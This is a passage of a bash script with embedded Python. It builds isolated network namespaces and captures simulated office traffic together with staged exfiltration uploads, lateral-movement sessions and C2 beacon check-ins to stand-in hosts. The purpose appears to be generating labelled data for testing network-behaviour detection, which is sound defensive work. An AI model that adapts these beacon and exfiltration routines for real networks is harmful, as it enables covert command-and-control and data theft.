#!/usr/bin/env bash
# Makes the behaviour lab captures in captures/behaviour/ with real tools (curl,
# python servers and clients, tcpdump) inside Linux network namespaces on this
# machine: benign office traffic as a lead-in, then one stealthy behaviour
# (slow or burst exfiltration, lateral movement, HTTP or keep-alive C2 beacon).
#
#   sudo scripts/make-behaviour-captures.sh                 # all six, ~13 minutes
#   sudo LEADIN=30 OUT=/tmp/beh scripts/make-behaviour-captures.sh   # quick test
#   sudo SCENARIOS="2 5" scripts/make-behaviour-captures.sh # only some of them
#
# Environment: LEADIN (seconds of benign lead-in before the attack, default 360),
# TAIL (benign seconds after the attack, default 30), BENIGN (length of the
# benign-only capture, default LEADIN+120), SEED (base seed of the benign
# generator, default 20240), WAN_RATE (tc rate of the lab's internet link each
# way, default 100mbit, 0 for none), OUT (output directory), SCENARIOS (subset
# of 1-6), KEEP_TMP=1 (keep the work directory with the per-process logs).
#
# Network safety: each scenario N gets its own set of namespaces, all named
# nvbehN*: a router nvbehNR (a bridge br0 for the LAN 10.78.1.0/24 and a veth
# to the "internet"), one namespace per LAN host (nvbehNc10, nvbehNs20, ...),
# and nvbehNI holding every "outside" address (documentation ranges
# 203.0.113.0/24 and 198.51.100.0/24, which exist only there). The namespaces are
# joined only by veth pairs to each other; none has a link to the host, and none
# has a default route (only routes for the lab prefixes). Every process runs
# under `timeout`, every loop is bounded in count and time, and on exit (trap)
# the script kills the processes it started (by pid / its own process groups /
# the processes inside its own namespaces) and deletes its namespaces.
set -euo pipefail

ROOT=$(cd "$(dirname "$0")/.." && pwd)
OUT=${OUT:-$ROOT/captures/behaviour}
PY=/usr/bin/python3            # Debian's python3, not a pyenv one
LEADIN=${LEADIN:-360}
TAIL=${TAIL:-30}
BENIGN=${BENIGN:-$((LEADIN + 120))}
SEED=${SEED:-20240}
WAN_RATE=${WAN_RATE:-100mbit}  # the lab's internet uplink/downlink (0: no limit)
SCENARIOS=${SCENARIOS:-"1 2 3 4 5 6"}
KEEP_TMP=${KEEP_TMP:-0}
LIFE=$((LEADIN + BENIGN + 900))   # hard upper bound (s) on every process we start

NAME=([1]=lab_benign_office [2]=lab_exfil_slow_new_dest [3]=lab_exfil_burst
      [4]=lab_lateral [5]=lab_beacon_http [6]=lab_beacon_keepalive)
# LAN hosts: namespace suffix : last octet of 10.78.1.x
HOSTS="d2:2 p5:5 c10:10 c11:11 s20:20 s21:21 s22:22 s23:23"
OUTSIDE="203.0.113.10 203.0.113.11 203.0.113.12 203.0.113.5 203.0.113.66 203.0.113.123 198.51.100.77"

say() { echo "make-behaviour-captures: $*" >&2; }

if [ "$(id -u)" -ne 0 ]; then
  say "must run as root (network namespaces)"
  exit 1
fi
for v in LEADIN TAIL BENIGN SEED; do
  [[ ${!v} =~ ^[0-9]+$ ]] || { say "$v must be a whole number of seconds"; exit 1; }
done
for n in $SCENARIOS; do
  [[ $n =~ ^[1-6]$ ]] || { say "SCENARIOS: $n is not one of 1-6"; exit 1; }
done

# ---------------------------------------------------------------- tools
need=(tcpdump:tcpdump ip:iproute2 ss:iproute2 tc:iproute2 curl:curl ethtool:ethtool
      capinfos:wireshark-common reordercap:wireshark-common openssl:openssl
      timeout:coreutils)
missing=()
for pair in "${need[@]}"; do
  command -v "${pair%%:*}" >/dev/null 2>&1 || missing+=("${pair#*:}")
done
[ -x "$PY" ] || missing+=(python3)
if [ ${#missing[@]} -gt 0 ]; then
  mapfile -t missing < <(printf '%s\n' "${missing[@]}" | sort -u)
  say "installing ${missing[*]}"
  export DEBIAN_FRONTEND=noninteractive
  apt-get install -y -qq --no-install-recommends "${missing[@]}" >/dev/null 2>&1 || {
    apt-get update -qq
    apt-get install -y -qq --no-install-recommends "${missing[@]}" >/dev/null
  }
fi
HAVE_TSHARK=0
command -v tshark >/dev/null 2>&1 && HAVE_TSHARK=1   # only for the summary

# ---------------------------------------------------------------- bookkeeping
TMP=$(mktemp -d /tmp/nvbeh.XXXXXX)
SCEN_PIDS=()     # process-group leaders: one background job per scenario

lab_ns() { # n -> the names of scenario n's namespaces
  local h
  echo "nvbeh${1}R nvbeh${1}I"
  for h in $HOSTS; do echo "nvbeh${1}${h%%:*}"; done
}

lab_down() { # n: kill what runs inside scenario n's namespaces, delete them
  local ns p
  for ns in $(lab_ns "$1"); do
    if [ -e "/run/netns/$ns" ]; then
      # anything alive inside OUR namespaces was started by this script
      for p in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$p" 2>/dev/null; done
      ip netns del "$ns" 2>/dev/null
    fi
  done
  return 0
}

cleanup() {
  set +e
  local p n
  for p in "${SCEN_PIDS[@]}"; do
    [ -n "$p" ] && kill -TERM -- "-$p" 2>/dev/null
  done
  [ ${#SCEN_PIDS[@]} -gt 0 ] && sleep 0.5
  for p in "${SCEN_PIDS[@]}"; do
    [ -n "$p" ] && kill -KILL -- "-$p" 2>/dev/null
  done
  for n in 1 2 3 4 5 6; do lab_down "$n"; done
  if [ "$KEEP_TMP" = 1 ]; then say "work directory kept: $TMP"; else rm -rf "$TMP"; fi
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# stale namespaces from an interrupted run of this script (our names only)
for n in 1 2 3 4 5 6; do lab_down "$n"; done

# ---------------------------------------------------------------- topology
offloads_off() { # ns ifname: real checksums, frames at most MTU-sized
  ip netns exec "$1" ethtool -K "$2" tx off tso off gso off gro off >/dev/null 2>&1 || true
}

lab_up() { # n
  local n=$1 R=nvbeh${1}R I=nvbeh${1}I ns h tag hx a
  for ns in $(lab_ns "$n"); do
    ip netns add "$ns"
    # IPv4 only: no IPv6 link-local, ND, MLD or router solicitations
    ip netns exec "$ns" sh -e -c '
      sysctl -qw net.ipv6.conf.all.disable_ipv6=1
      sysctl -qw net.ipv6.conf.default.disable_ipv6=1
      ip link set lo up'
  done
  ip netns exec "$R" sysctl -qw net.ipv4.ip_forward=1
  # the LAN is a bridge inside the router: east-west frames cross br0 too
  ip -n "$R" link add br0 address "$(printf '02:78:%02x:00:00:01' "$n")" type bridge \
    stp_state 0 forward_delay 0 mcast_snooping 0
  ip -n "$R" addr add 10.78.1.1/24 dev br0
  offloads_off "$R" br0
  for h in $HOSTS; do
    tag=${h%%:*} hx=${h#*:} ns=nvbeh${n}${h%%:*}
    ip link add name eth0 address "$(printf '02:78:%02x:01:00:%02x' "$n" "$hx")" netns "$ns" \
      type veth peer name "p$tag" address "$(printf '02:78:%02x:02:00:%02x' "$n" "$hx")" netns "$R"
    ip -n "$R" link set "p$tag" master br0
    offloads_off "$R" "p$tag"
    offloads_off "$ns" eth0
    ip -n "$R" link set "p$tag" up
    ip -n "$ns" addr add "10.78.1.$hx/24" dev eth0
    ip -n "$ns" link set eth0 up
    # no default route: only the two lab "internet" prefixes, via the router
    ip -n "$ns" route add 203.0.113.0/24 via 10.78.1.1
    ip -n "$ns" route add 198.51.100.0/24 via 10.78.1.1
  done
  ip -n "$R" link set br0 up
  # the "internet": one namespace holding every outside address, behind wan0
  ip link add name wan0 address "$(printf '02:78:%02x:00:00:fe' "$n")" netns "$R" \
    type veth peer name eth0 address "$(printf '02:78:%02x:ff:00:02' "$n")" netns "$I"
  offloads_off "$R" wan0
  offloads_off "$I" eth0
  ip -n "$R" addr add 192.0.2.1/30 dev wan0
  ip -n "$R" link set wan0 up
  ip -n "$I" addr add 192.0.2.2/30 dev eth0
  ip -n "$I" link set eth0 up
  ip -n "$R" route add 203.0.113.0/24 via 192.0.2.2
  ip -n "$R" route add 198.51.100.0/24 via 192.0.2.2
  ip -n "$I" route add 10.78.1.0/24 via 192.0.2.1
  for a in $OUTSIDE; do ip -n "$I" addr add "$a/32" dev lo; done
  # the site's internet link: WAN_RATE each way (token bucket; real queueing and
  # loss when a transfer outruns it). Skipped if this kernel lacks sch_tbf.
  if [ "$WAN_RATE" != 0 ]; then
    ip netns exec "$R" tc qdisc add dev wan0 root tbf rate "$WAN_RATE" burst 64kb latency 50ms 2>/dev/null &&
      ip netns exec "$I" tc qdisc add dev eth0 root tbf rate "$WAN_RATE" burst 64kb latency 50ms 2>/dev/null ||
      say "[$n] tc tbf unavailable: the WAN link is not rate limited"
  fi
}

# ---------------------------------------------------------------- lab programs
# One python program plays every server and every client behaviour; curl makes
# every HTTP(S) request. It runs inside the namespaces under `timeout`.
LAB=$TMP/lab.py
cat >"$LAB" <<'EOF'
"""netvigil behaviour lab: servers and traffic drivers (run inside a netns)."""
import argparse, json, os, random, socket, ssl, struct, subprocess, sys, threading, time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

WEB = ["203.0.113.10", "203.0.113.11", "203.0.113.12"]   # the usual web servers
BACKUP = "203.0.113.5"                                     # the usual backup target
EXFIL = "198.51.100.77"                                    # new destination (attack only)
C2 = "203.0.113.66"                                        # C2 server (attack only)
NTP = "203.0.113.123"
DNS = "10.78.1.2"
SERVERS = ["10.78.1.20", "10.78.1.21", "10.78.1.22", "10.78.1.23"]
ZONE = {
    "www.example.com": "203.0.113.10",
    "static.example.net": "203.0.113.11",
    "cdn.example.org": "203.0.113.12",
    "backup.corp.example": BACKUP,
    "time.example.net": NTP,
    "upload.storage-drop.example": EXFIL,
    "telemetry.update-check.example": C2,
    "srv20.corp.example": "10.78.1.20",
    "srv21.corp.example": "10.78.1.21",
    "srv22.corp.example": "10.78.1.22",
    "srv23.corp.example": "10.78.1.23",
}
WEB_NAME = {"203.0.113.10": "www.example.com", "203.0.113.11": "static.example.net",
            "203.0.113.12": "cdn.example.org"}
# download sizes (KiB) and weights: mostly small pages and assets, rarely a few MB
SIZES_KB = [20, 32, 48, 64, 96, 128, 200, 320, 500, 800, 1200, 2000, 3500, 5000]
WEIGHTS = [12, 12, 10, 8, 7, 5, 3.5, 2.5, 1.5, 0.8, 0.4, 0.2, 0.1, 0.06]
PAD = random.Random(7).randbytes(1 << 20)


def log(*a):
    print(time.strftime("%H:%M:%S"), "%.3f" % time.time(), *a, file=sys.stderr, flush=True)


# ------------------------------------------------------------------ servers
class Server(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True
    request_queue_size = 64
    kind = "web"

    def handle_error(self, request, client_address):
        log("handler error", client_address, repr(sys.exc_info()[1]))


def metrics_text():
    t = time.time()
    lines = ["# HELP node_cpu_seconds_total Seconds the CPUs spent in each mode.",
             "# TYPE node_cpu_seconds_total counter"]
    for cpu in range(4):
        for mode in ("idle", "iowait", "irq", "nice", "softirq", "steal", "system", "user"):
            lines.append('node_cpu_seconds_total{cpu="%d",mode="%s"} %14.2f' % (cpu, mode, t % 1e6 / (cpu + 2)))
    for name in ("MemAvailable", "MemFree", "Buffers", "Cached", "SwapFree"):
        lines.append("node_memory_%s_bytes %14d" % (name, int(t * 1000) % 10**13))
    for dev in ("eth0", "lo"):
        for d in ("receive", "transmit"):
            lines.append('node_network_%s_bytes_total{device="%s"} %14d' % (d, dev, int(t * 7919) % 10**13))
    lines.append("node_load1 %6.2f" % (t % 3))
    return ("\n".join(lines) + "\n").encode()


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "nginx/1.22.1"
    sys_version = ""
    timeout = 60

    def setup(self):
        self.request.settimeout(self.timeout)
        if isinstance(self.request, ssl.SSLSocket):
            self.request.do_handshake()     # in the handler thread, not in accept()
        super().setup()

    def log_message(self, fmt, *args):
        pass

    def reply(self, code, body, ctype="application/json"):
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)
        self.close_connection = True

    def drain(self):
        n = 0
        if "chunked" in self.headers.get("Transfer-Encoding", "").lower():
            while True:
                size = int(self.rfile.readline(100).split(b";")[0].strip() or b"0", 16)
                if size == 0:
                    while self.rfile.readline(1000) not in (b"\r\n", b"\n", b""):
                        pass
                    return n
                left = size
                while left:
                    chunk = self.rfile.read(min(left, 65536))
                    if not chunk:
                        return n
                    left -= len(chunk)
                    n += len(chunk)
                self.rfile.readline(10)
        left = int(self.headers.get("Content-Length") or 0)
        while left > 0:
            chunk = self.rfile.read(min(left, 65536))
            if not chunk:
                break
            left -= len(chunk)
            n += len(chunk)
        return n

    def c2_body(self):
        return b'{"status":"ok","task":"none","sleep":10,"nonce":"%08x"}' % self.server.rng.getrandbits(32)

    def do_GET(self):
        path = self.path.split("?", 1)[0]
        kind = self.server.kind
        if kind == "web" and path.startswith("/f/"):
            n = max(0, min(int(path[3:]), 50_000_000))
            self.send_response(200)
            self.send_header("Content-Type", "application/octet-stream")
            self.send_header("Content-Length", str(n))
            self.send_header("Connection", "close")
            self.end_headers()
            off = 0
            while n > 0:
                k = min(n, 65536)
                self.wfile.write(PAD[off:off + k])
                off = (off + 65536) % len(PAD)
                n -= k
            self.close_connection = True
        elif kind == "metrics" and path == "/metrics":
            self.reply(200, metrics_text(), "text/plain; version=0.0.4")
        elif kind == "c2":
            self.reply(200, self.c2_body())
        else:
            self.reply(404, b'{"error":"not found"}')

    def do_POST(self):
        n = self.drain()
        if self.server.kind == "c2":
            self.reply(200, self.c2_body())
        else:
            self.reply(200 if self.command == "POST" else 201, b'{"status":"stored","bytes":%d}' % n)

    do_PUT = do_POST


def serve(srv):
    threading.Thread(target=srv.serve_forever, daemon=True).start()


def keepalive_server(ip, port):
    """C2 over one long-lived TCP connection: answers each ~100-byte check-in with 60 bytes."""
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((ip, port))
    ls.listen(16)

    def handle(c):
        c.settimeout(120)
        n = 0
        try:
            while True:
                data = c.recv(4096)
                if not data:
                    break
                n += 1
                c.sendall((b'{"ack":%d,"cmd":"noop","t":%d}' % (n, int(time.time()))).ljust(60, b" ")[:60])
        except OSError as e:
            log("keepalive server:", repr(e))
        finally:
            c.close()

    while True:
        c, _ = ls.accept()
        threading.Thread(target=handle, args=(c,), daemon=True).start()


def ntp_server(ip):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((ip, 123))
    while True:
        data, peer = s.recvfrom(512)
        if len(data) < 48:
            continue
        now = time.time() + 2208988800
        ts = struct.pack(">II", int(now), int((now % 1) * 2**32))
        s.sendto(bytes([0x24, 2, data[2], 0xE9]) + struct.pack(">II", 0x100, 0x200) + b"\xcb\x00\x71\x01"
                 + ts + data[40:48] + ts + ts, peer)


BANNERS = {
    22: b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n",
    445: b"\x00\x00\x00\xb0\xfeSMB" + random.Random(445).randbytes(172),
    3389: b"\x03\x00\x00\x13\x0e\xd0\x00\x00\x12\x34\x00\x02\x1f\x08\x00\x08\x00\x00\x00",
    5985: b"HTTP/1.1 401 \r\nServer: Microsoft-HTTPAPI/2.0\r\nWWW-Authenticate: Negotiate\r\n"
          b"Date: Mon, 01 Jan 2024 00:00:00 GMT\r\nContent-Length: 0\r\n\r\n",
}


def chatty_server(ip, port, seed):
    """A service that greets with a banner, then answers every message with 150-900 bytes."""
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((ip, port))
    ls.listen(16)
    master = random.Random("%s:%s:%d" % (seed, ip, port))

    def handle(c, rng):
        c.settimeout(60)
        try:
            c.sendall(BANNERS.get(port, b"READY\r\n"))
            while True:
                data = c.recv(65536)
                if not data:
                    break
                c.sendall(rng.randbytes(rng.randint(150, 900)))
        except OSError as e:
            log("chatty server %d:" % port, repr(e))
        finally:
            c.close()

    while True:
        c, peer = ls.accept()
        log("session from %s:%d to port %d" % (peer[0], peer[1], port))
        threading.Thread(target=handle, args=(c, random.Random(master.getrandbits(64))), daemon=True).start()


def cmd_outside(a):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(a.cert, a.key)
    for ip in WEB + [BACKUP, EXFIL]:
        srv = Server((ip, 443), Handler)
        srv.socket = ctx.wrap_socket(srv.socket, server_side=True, do_handshake_on_connect=False)
        serve(srv)
    c2 = Server((C2, 8080), Handler)
    c2.kind = "c2"
    c2.rng = random.Random(a.seed)
    serve(c2)
    threading.Thread(target=keepalive_server, args=(C2, 443), daemon=True).start()
    threading.Thread(target=ntp_server, args=(NTP,), daemon=True).start()
    log("outside servers ready")
    while True:
        time.sleep(3600)


def cmd_inside(a):
    srv = Server((a.ip, 9100), Handler)
    srv.kind = "metrics"
    serve(srv)
    for port in a.ports:
        threading.Thread(target=chatty_server, args=(a.ip, port, a.seed), daemon=True).start()
    log("inside server %s ready (9100 %s)" % (a.ip, a.ports))
    while True:
        time.sleep(3600)


def cmd_dns(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((a.ip, 53))
    log("dns ready")
    while True:
        q, peer = s.recvfrom(512)
        if len(q) < 17:
            continue
        qid, flags = struct.unpack(">HH", q[:4])
        i, labels = 12, []
        while i < len(q) and q[i] != 0:
            labels.append(q[i + 1:i + 1 + q[i]].decode("ascii", "replace"))
            i += 1 + q[i]
        if i + 5 > len(q):
            continue
        qtype = struct.unpack(">H", q[i + 1:i + 3])[0]
        question = q[12:i + 5]
        ip = ZONE.get(".".join(labels).lower())
        rd = flags & 0x0100
        if ip and qtype == 1:
            hdr = struct.pack(">HHHHHH", qid, 0x8080 | rd, 1, 1, 0, 0)
            ans = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 300, 4) + socket.inet_aton(ip)
        elif ip:
            hdr, ans = struct.pack(">HHHHHH", qid, 0x8080 | rd, 1, 0, 0, 0), b""
        else:
            hdr, ans = struct.pack(">HHHHHH", qid, 0x8083 | rd, 1, 0, 0, 0), b""
        s.sendto(hdr + question + ans, peer)


# ------------------------------------------------------------------ clients
def resolve(name, rng):
    q = struct.pack(">HHHHHH", rng.getrandbits(16), 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        try:
            s.sendto(q, (DNS, 53))
            r = s.recv(512)
        except OSError as e:
            log("dns", name, repr(e))
            return None
    return socket.inet_ntoa(r[-4:]) if struct.unpack(">H", r[6:8])[0] else None


def ntp_query(rng):
    now = time.time() + 2208988800
    pkt = bytes([0x23, 0, 6, 0xEC]) + bytes(36) + struct.pack(">II", int(now), rng.getrandbits(32))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        try:
            s.sendto(pkt, (NTP, 123))
            s.recv(512)
        except OSError as e:
            log("ntp", repr(e))


def curl(args, timeout=120):
    cmd = ["curl", "-s", "-S", "-k", "-o", "/dev/null", "--max-time", str(timeout)] + args
    try:
        r = subprocess.run(cmd, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                           stderr=subprocess.PIPE, timeout=timeout + 10)
    except subprocess.TimeoutExpired:
        log("curl timed out", args)
        return 124
    if r.returncode:
        log("curl failed", r.returncode, args, r.stderr.decode(errors="replace").strip()[:200])
    return r.returncode


def recv_some(s, first=5.0, idle=0.25):
    got = 0
    s.settimeout(first)
    try:
        while True:
            data = s.recv(65536)
            if not data:
                break
            got += len(data)
            s.settimeout(idle)
    except socket.timeout:
        pass
    return got


def session(dst, port, rng, rounds, send=(40, 400), gap=(0.3, 1.5)):
    """An interactive admin-style session: banner, then `rounds` exchanges both ways."""
    sent = recv = 0
    try:
        with socket.create_connection((dst, port), timeout=10) as s:
            recv += recv_some(s)
            if port == 22:
                s.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
            for _ in range(rounds):
                msg = rng.randbytes(rng.randint(*send))
                s.sendall(msg)
                sent += len(msg)
                recv += recv_some(s)
                time.sleep(rng.uniform(*gap))
            s.shutdown(socket.SHUT_WR)
            recv += recv_some(s, first=2.0)
    except OSError as e:
        log("session %s:%d failed: %r" % (dst, port, e))
        return False
    log("session %s:%d done: sent %d, received %d bytes" % (dst, port, sent, recv))
    return True


class Clock:
    """Bounded run: stops at the deadline or as soon as the stop file appears."""

    def __init__(self, duration, stop_file):
        self.end = time.time() + duration
        self.stop_file = stop_file

    def running(self):
        return time.time() < self.end and not (self.stop_file and os.path.exists(self.stop_file))

    def nap(self, sec):
        until = time.time() + sec
        while self.running():
            left = until - time.time()
            if left <= 0:
                return True
            time.sleep(min(left, 0.5))
        return False


def loop_downloads(a, clock):
    rng = random.Random("%s:%s:downloads" % (a.seed, a.role))
    if not clock.nap(rng.uniform(0, 4)):
        return
    while True:
        ip = rng.choices(WEB, weights=[5, 3, 2])[0]
        size = int(rng.choices(SIZES_KB, WEIGHTS)[0] * 1024 * rng.uniform(0.85, 1.15))
        if rng.random() < 0.6:
            resolve(WEB_NAME[ip], rng)
        curl(["https://%s/f/%d?v=%08x" % (ip, size, rng.getrandbits(32))], timeout=90)
        if not clock.nap(rng.uniform(2, 15)):
            return


def loop_posts(a, clock):
    """Small form/API uploads (the only uploads 10.78.1.11 makes)."""
    rng = random.Random("%s:%s:posts" % (a.seed, a.role))
    path = os.path.join(a.tmp, "%s-post.bin" % a.role)
    if not clock.nap(rng.uniform(5, 30)):
        return
    while True:
        with open(path, "wb") as f:
            f.write(b"q=" + rng.randbytes(rng.randint(1500, 20000)).hex().encode()[: rng.randint(1500, 20000)])
        curl(["--data-binary", "@" + path, "-H", "Content-Type: application/x-www-form-urlencoded",
              "https://%s/api/submit" % rng.choice(WEB)], timeout=30)
        if not clock.nap(rng.uniform(25, 70)):
            return


def loop_backup(a, clock):
    """Routine upload of 1-2 MB to the usual backup target every 60-90 s."""
    rng = random.Random("%s:%s:backup" % (a.seed, a.role))
    path = os.path.join(a.tmp, "%s-backup.bin" % a.role)
    if not clock.nap(rng.uniform(15, 40)):
        return
    n = 0
    while True:
        n += 1
        with open(path, "wb") as f:
            f.write(os.urandom(int(rng.uniform(1.0, 2.0) * 1e6)))
        resolve("backup.corp.example", rng)
        curl(["-T", path, "https://%s/backup/ws10/incr-%03d.tar.zst" % (BACKUP, n)], timeout=120)
        if not clock.nap(rng.uniform(60, 90)):
            return


def loop_ssh(a, clock):
    """Routine admin sessions from 10.78.1.10 to 10.78.1.20:22."""
    rng = random.Random("%s:%s:ssh" % (a.seed, a.role))
    if not clock.nap(rng.uniform(20, 50)):
        return
    while True:
        resolve("srv20.corp.example", rng)
        session("10.78.1.20", 22, rng, rounds=rng.randint(6, 14))
        if not clock.nap(rng.uniform(70, 130)):
            return


def loop_ntp(a, clock):
    rng = random.Random("%s:%s:ntp" % (a.seed, a.role))
    if not clock.nap(rng.uniform(0, 20)):
        return
    while True:
        ntp_query(rng)
        if not clock.nap(rng.uniform(58, 70)):
            return


def cmd_benign(a):
    clock = Clock(a.duration, a.stop_file)
    loops = [loop_downloads, loop_posts, loop_ntp]
    if a.role == "c10":
        loops += [loop_backup, loop_ssh]
    threads = [threading.Thread(target=f, args=(a, clock)) for f in loops]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    log("benign %s done" % a.role)


def cmd_poller(a):
    """Monitoring: every 15 s, GET /metrics from every internal server on 9100."""
    clock = Clock(a.duration, a.stop_file)
    t = time.time()
    while clock.running():
        for ip in SERVERS:
            curl(["http://%s:9100/metrics" % ip], timeout=5)
        t += 15
        if not clock.nap(t - time.time()):
            break
    log("poller done")


def wait_until(t):
    while True:
        left = t - time.time()
        if left <= 0:
            return
        time.sleep(min(left, 0.5))


def cmd_session(a):
    rng = random.Random("%s:session:%s:%d" % (a.seed, a.dst, a.port))
    sys.exit(0 if session(a.dst, a.port, rng, a.rounds, send=(200, 700), gap=(0.3, 1.2)) else 1)


def cmd_beacon_http(a):
    rng = random.Random("%s:beacon-http" % a.seed)
    resolve("telemetry.update-check.example", rng)
    bot = "%08x" % rng.getrandbits(32)
    t = time.time()
    for i in range(a.count):
        wait_until(t)
        body = json.dumps({"id": bot, "seq": i + 1, "host": "WS-0111", "os": "win10", "st": "idle"},
                          separators=(",", ":"))
        log("check-in %d" % (i + 1))
        curl(["-X", "POST", "-H", "Content-Type: application/json",
              "-A", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "--data-binary", body,
              "http://%s:8080/api/v2/checkin" % C2], timeout=8)
        t += a.period + rng.uniform(-a.jitter, a.jitter)


def cmd_beacon_keepalive(a):
    rng = random.Random("%s:beacon-keepalive" % a.seed)
    resolve("telemetry.update-check.example", rng)
    bot = b"%08x" % rng.getrandbits(32)
    with socket.create_connection((C2, 443), timeout=10) as s:
        s.settimeout(10)
        t = time.time()
        for i in range(a.count):
            wait_until(t)
            head = b'{"b":"%s","s":%d,"st":"idle","q":0,"pad":"' % (bot, i + 1)
            msg = head + bytes(rng.choice(b"abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(98 - len(head))) + b'"}'
            assert len(msg) == 100
            s.sendall(msg)
            r = s.recv(4096)
            log("check-in %d: sent %d, got %d bytes" % (i + 1, len(msg), len(r)))
            t += a.period + rng.uniform(-a.jitter, a.jitter)
    log("keepalive done")


def cmd_resolve(a):
    print(resolve(a.name, random.Random()))


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("outside"); s.add_argument("--cert"); s.add_argument("--key"); s.add_argument("--seed", default="0")
    s = sub.add_parser("inside"); s.add_argument("--ip"); s.add_argument("--ports", type=int, nargs="*", default=[]); s.add_argument("--seed", default="0")
    s = sub.add_parser("dns"); s.add_argument("--ip")
    for name in ("benign", "poller"):
        s = sub.add_parser(name); s.add_argument("--role", default="p5"); s.add_argument("--seed", default="0")
        s.add_argument("--duration", type=float); s.add_argument("--stop-file"); s.add_argument("--tmp", default="/tmp")
    s = sub.add_parser("session"); s.add_argument("--dst"); s.add_argument("--port", type=int)
    s.add_argument("--rounds", type=int, default=6); s.add_argument("--seed", default="0")
    for name in ("beacon-http", "beacon-keepalive"):
        s = sub.add_parser(name); s.add_argument("--count", type=int); s.add_argument("--period", type=float)
        s.add_argument("--jitter", type=float); s.add_argument("--seed", default="0")
    s = sub.add_parser("resolve"); s.add_argument("name")
    a = p.parse_args()
    globals()["cmd_" + a.cmd.replace("-", "_")](a)


main()
EOF

# a throwaway self-signed certificate for the lab's HTTPS servers
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 \
  -subj "/CN=www.example.com" -keyout "$TMP/key.pem" -out "$TMP/cert.pem" >/dev/null 2>&1
# the files the exfiltration scenarios upload (random, so incompressible)
head -c 40000000 /dev/urandom >"$TMP/exfil40.bin"
head -c 24000000 /dev/urandom >"$TMP/exfil24.bin"

# ---------------------------------------------------------------- one scenario
# Runs in a background job of its own; every helper below uses $N and $SPIDS.
SPIDS=()
inns() { local ns=nvbeh${N}$1; shift; ip netns exec "$ns" "$@"; }
start_bg() { # ns-suffix logname cmd...
  local ns=nvbeh${N}$1 lg=$TMP/s$N-$2.log
  shift 2
  ip netns exec "$ns" "$@" >>"$lg" 2>&1 </dev/null &
  SPIDS+=($!)
}
wait_listen() { # ns-suffix port...
  local ns=$1 port i
  shift
  for port in "$@"; do
    for i in $(seq 100); do
      inns "$ns" ss -Hltn "sport = :$port" | grep -q . && break
      sleep 0.1
    done
    inns "$ns" ss -Hltn "sport = :$port" | grep -q . || { say "[$N] nothing listens on $ns:$port"; return 1; }
  done
}
lab_servers() {
  start_bg I outside timeout "$LIFE" "$PY" "$LAB" outside --cert "$TMP/cert.pem" --key "$TMP/key.pem" --seed "$SEED"
  start_bg d2 dns timeout "$LIFE" "$PY" "$LAB" dns --ip 10.78.1.2
  start_bg s20 s20 timeout "$LIFE" "$PY" "$LAB" inside --ip 10.78.1.20 --ports 22 --seed "$SEED"
  start_bg s21 s21 timeout "$LIFE" "$PY" "$LAB" inside --ip 10.78.1.21 --ports 445 --seed "$SEED"
  start_bg s22 s22 timeout "$LIFE" "$PY" "$LAB" inside --ip 10.78.1.22 --ports 3389 --seed "$SEED"
  start_bg s23 s23 timeout "$LIFE" "$PY" "$LAB" inside --ip 10.78.1.23 --ports 5985 --seed "$SEED"
  wait_listen I 443 8080
  wait_listen s20 9100 22
  wait_listen s21 9100 445
  wait_listen s22 9100 3389
  wait_listen s23 9100 5985
}
CAP_PID=
cap_start() { # file
  local lg=$TMP/s$N-tcpdump.log i
  # headers only (-s 128; orig_len keeps the real size), on the router's LAN bridge
  ip netns exec "nvbeh${N}R" timeout "$LIFE" tcpdump -i br0 -s 128 -B 16384 -n -U -Z root \
    -c 400000 -w "$1" 2>"$lg" </dev/null &
  CAP_PID=$!
  SPIDS+=("$CAP_PID")
  for i in $(seq 100); do grep -qs 'listening on' "$lg" && break; sleep 0.1; done
  grep -q 'listening on' "$lg" || { cat "$lg" >&2; return 1; }
  sleep 1
}
cap_stop() {
  kill -TERM "$CAP_PID" 2>/dev/null || true
  wait "$CAP_PID" 2>/dev/null || true
  grep -E 'captured|dropped' "$TMP/s$N-tcpdump.log" | sed "s/^/  [$N] tcpdump: /" >&2 || true
}
GEN_PIDS=()
benign_start() { # seconds (upper bound; benign_stop ends it sooner)
  local d=$1 seed=$((SEED + N)) i
  rm -f "$TMP/stop$N"
  mkdir -p "$TMP/s$N"
  i=${#SPIDS[@]}
  start_bg c10 gen-c10 timeout $((d + 90)) "$PY" "$LAB" benign --role c10 --seed "$seed" \
    --duration "$d" --stop-file "$TMP/stop$N" --tmp "$TMP/s$N"
  start_bg c11 gen-c11 timeout $((d + 90)) "$PY" "$LAB" benign --role c11 --seed "$seed" \
    --duration "$d" --stop-file "$TMP/stop$N" --tmp "$TMP/s$N"
  start_bg p5 gen-p5 timeout $((d + 90)) "$PY" "$LAB" poller --seed "$seed" \
    --duration "$d" --stop-file "$TMP/stop$N"
